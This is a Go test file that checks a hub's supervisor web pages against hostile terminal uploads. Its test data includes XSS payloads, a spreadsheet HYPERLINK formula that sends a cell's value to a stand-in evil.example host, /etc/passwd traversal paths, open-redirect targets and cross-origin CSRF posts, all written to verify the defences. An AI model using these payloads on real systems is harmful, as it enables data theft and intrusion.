package hubweb_test

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"markd/hub"
	"markd/hub/hubtest"
	"markd/hub/hubweb"
	"markd/internal/testdata"
	"markd/mark"
)

// Strings a terminal holding valid credentials chooses, put where the
// regional pages and the CSV show them (red-team pass, docs/notes/trust.md).
const (
	evilID       = `+1<script>alert(1)</script>`
	evilCounter  = `=HYPERLINK("http://evil.example/?"&A1,"open")<img src=x onerror=alert(2)>`
	evilOperator = `<i onmouseover=alert(3)>op</i>`
	evilZone     = `<b>Europe/Evil</b>`
	evilKeyring  = `<u>k</u>`
	evilMessage  = `<svg onload=alert(4)>`
	evilText     = `EPM1:<script>alert(5)</script>`
	evilRefused  = `-2+3<b>refused</b>`
)

// TestTerminalStringsOnPages plays a terminal with valid credentials that
// uploads, through the real API, records whose ids, counter, operator,
// zone, list versions, message and text are HTML and spreadsheet formulas,
// on both backends: every page that shows them escapes them, and the
// CSV a supervisor opens in a spreadsheet holds no cell that starts a
// formula (OWASP "CSV injection": before, /disputed.csv wrote the
// counter's =HYPERLINK(…) as it came).
func TestTerminalStringsOnPages(t *testing.T) {
	for _, backend := range []string{"sqlite", "postgres"} {
		t.Run(backend, func(t *testing.T) { testTerminalStringsOnPages(t, backend) })
	}
}

func testTerminalStringsOnPages(t *testing.T, backend string) {
	ctx := t.Context()
	rs := regionalStore(t, backend)
	s, ok := rs.(hub.Store)
	if !ok {
		t.Fatalf("%T is no hub.Store", rs)
	}
	now := testdata.Now()
	hubtest.Publish(t, s)
	if err := s.AddTerminal(ctx, hub.Terminal{Name: "office-evil", Office: 426000, TokenHash: hub.HashToken("tok-evil"),
		Created: now.AddDate(0, -1, 0)}); err != nil {
		t.Fatal(err)
	}
	api := httptest.NewServer(hub.NewServer(s, hub.ServerOptions{Now: func() time.Time { return now }}).Handler())
	defer api.Close()
	post := func(q hub.UploadRequest) (int, []byte) {
		body, _ := json.Marshal(q)
		code, _, raw := hubtest.Post(t, api.URL, "tok-evil", "application/json", body, nil)
		return code, raw
	}
	// A real mark of office 101000 accepted at 426000: disputed
	// (WRONG_OFFICE), so it is on /alerts and in /disputed.csv.
	m := hubtest.TestMark(91001, 101000)
	m.Issued, m.ValidUntil = mark.DayOf(now.AddDate(0, -1, 0)), mark.DayOf(now.AddDate(0, 1, 0))
	f := m.Fields()
	off := int32(3 * 3600)
	disputed := hubtest.Rec(evilID, 426000, evilCounter, mark.Accept, 0)
	disputed.Mark, disputed.Text, disputed.At = &f, hubtest.Sign(m), now.Add(-time.Hour)
	disputed.Operator, disputed.AtZone, disputed.AtOffset, disputed.Message = evilOperator, evilZone, &off, evilMessage
	disputed.Versions.Keyring = evilKeyring
	// A made-up mark: unverified, on /unverified with its text.
	forged := hubtest.Rec("forged-1", 426000, evilCounter, mark.Accept, 0)
	fm := hubtest.TestMark(91002, 426000)
	ff := fm.Fields()
	forged.Mark, forged.Text, forged.At = &ff, evilText, now.Add(-30*time.Minute)
	forged.Versions.Keyring = evilKeyring // the newest record: its lists are on the fleet page
	if code, raw := post(hub.UploadRequest{Records: []hub.Record{disputed, forged}}); code != http.StatusOK ||
		!strings.Contains(string(raw), `"disputed":1`) || !strings.Contains(string(raw), `"unverified":1`) {
		t.Fatalf("upload: %d %s", code, raw)
	}
	// A refused record (a negative weight): on /refused with its id.
	bad := hubtest.Rec(evilRefused, 426000, "1", mark.NotAMark, 0)
	bad.MeasuredWeightG = -1
	if code, raw := post(hub.UploadRequest{Records: []hub.Record{bad}}); code != http.StatusBadRequest {
		t.Fatalf("refused upload: %d %s", code, raw)
	}

	addSupervisor(t, rs, now)
	pages, err := hubweb.New(hubweb.Options{Store: rs, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(pages.Handler())
	defer ts.Close()
	b := newBrowser(t, ts.URL)
	b.login(supName, supPass)

	raw := []string{"<script>", "<img ", "<i ", "<b>", "<u>", "<svg "}
	shown := map[string]string{ // page: an escaped payload it must show
		"/":           "&lt;u&gt;k&lt;/u&gt;",
		"/alerts":     "&lt;script&gt;alert(1)&lt;/script&gt;",
		"/unverified": "&lt;img src=x onerror=alert(2)&gt;",
		"/refused":    "&lt;b&gt;refused&lt;/b&gt;",
		"/lookup?by=serial&q=" + strconv.Itoa(91001): "&lt;img src=x onerror=alert(2)&gt;",
	}
	for path, want := range shown {
		code, page, _ := b.do(http.MethodGet, path, nil)
		if code != http.StatusOK {
			t.Fatalf("%s: %d", path, code)
		}
		for _, r := range raw {
			if strings.Contains(page, r) {
				t.Errorf("%s holds %q unescaped", path, r)
			}
		}
		if !strings.Contains(page, want) {
			t.Errorf("%s does not show %q", path, want)
		}
	}

	code, body, h := b.do(http.MethodGet, "/disputed.csv", nil)
	if code != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("/disputed.csv: %d %s", code, h.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("/disputed.csv: %d rows, %v\n%s", len(rows), err, body)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("/disputed.csv column %s starts a formula: %q", rows[0][i], cell)
		}
	}
	col := map[string]string{}
	for i, name := range rows[0] {
		col[name] = rows[1][i]
	}
	// Kept whole behind the quote that makes it text: nothing is lost.
	if col["counter"] != "'"+evilCounter || col["record_id"] != "'"+evilID {
		t.Errorf("/disputed.csv counter %q, record_id %q", col["counter"], col["record_id"])
	}
	// The stored record is what the terminal sent.
	got, err := s.Record(ctx, "office-evil", evilID)
	if err != nil || got.Counter != evilCounter || got.Operator != evilOperator || got.Message != evilMessage {
		t.Errorf("stored %+v %v", got, err)
	}
}

// TestPagesTraversalAndRedirects plays a stranger and a phisher against
// the regional pages: paths that climb out of the routes (encoded or
// not) serve no file, and the login's next= sends the browser nowhere but
// a path of the collector (an open redirect would lend a phishing link
// the collector's name).
func TestPagesTraversalAndRedirects(t *testing.T) {
	e := newEnv(t)
	b := newBrowser(t, e.ts.URL)
	for _, p := range []string{"/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd",
		"/..%5c..%5cetc%5cpasswd", "/static/app.css/../../hub.db", "/static/app.css%00.html"} {
		code, body, h := b.do(http.MethodGet, p, nil)
		if code == http.StatusOK || strings.Contains(body, "root:") {
			t.Errorf("%s: %d %s, %d bytes", p, code, h.Get("Content-Type"), len(body))
		}
	}
	for next, want := range map[string]string{
		"//evil.example/x":          "/",
		"https://evil.example/":     "/",
		"/\\evil.example":           "/",
		"/\t/evil.example":          "/",
		"javascript:alert(1)":       "/",
		"/alerts?all=1":             "/alerts?all=1",
		"http:/evil.example":        "/",
		"/%2f%2fevil.example/steal": "/%2f%2fevil.example/steal", // a path of the collector's own
	} {
		lb := newBrowser(t, e.ts.URL)
		_, page, _ := lb.do(http.MethodGet, "/login", nil)
		m := csrfField.FindStringSubmatch(page)
		if m == nil {
			t.Fatalf("login page without a form token")
		}
		code, _, h := lb.do(http.MethodPost, "/login", url.Values{"csrf": {m[1]}, "user": {supName}, "password": {supPass}, "next": {next}})
		if code != http.StatusSeeOther || h.Get("Location") != want {
			t.Errorf("login with next=%q: %d to %q, want 303 to %q", next, code, h.Get("Location"), want)
		}
	}
}

// TestCSRFOfAnotherSession: a form token is its session's own. A page
// of the collector that leaked one browser's token (or a phisher with
// their own session) cannot make another browser's session act: the
// POST is 403 and the session goes on; with an Origin of another site,
// or "null" (a sandboxed frame), even its own token is refused.
func TestCSRFOfAnotherSession(t *testing.T) {
	e := newEnv(t)
	a, b := newBrowser(t, e.ts.URL), newBrowser(t, e.ts.URL)
	tokA, tokB := a.login(supName, supPass), b.login(supName, supPass)
	if tokA == tokB {
		t.Fatalf("two sessions share a form token")
	}
	if code, _, _ := b.do(http.MethodPost, "/logout", url.Values{"csrf": {tokA}}); code != http.StatusForbidden {
		t.Errorf("logout with another session's token: %d, want 403", code)
	}
	for _, origin := range []string{"https://evil.example", "null"} {
		req, _ := http.NewRequest(http.MethodPost, e.ts.URL+"/logout", strings.NewReader(url.Values{"csrf": {tokB}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", origin)
		res, err := b.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("logout from Origin %s: %d, want 403", origin, res.StatusCode)
		}
	}
	if code, _, _ := b.do(http.MethodGet, "/", nil); code != http.StatusOK {
		t.Errorf("session after the refused POSTs: %d", code)
	}
}
